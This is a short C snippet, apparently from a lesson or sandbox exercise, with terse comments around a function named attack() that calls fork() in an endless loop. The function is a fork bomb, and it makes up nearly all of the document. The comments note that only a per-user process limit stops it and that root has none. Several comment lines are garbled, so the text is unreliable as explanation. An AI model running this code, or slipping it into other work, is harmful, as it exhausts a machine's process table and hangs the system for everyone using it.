// what: makes processes as fast as it can
// graded: which no answer to this lesson needs
// namespaces: stuck in compute
// user: stuck in compute
// none: not played: nothing but the number of processes that a user may have would end it, and root has none
#include <unistd.h>
bool attack() {
  for (;;) fork();
}
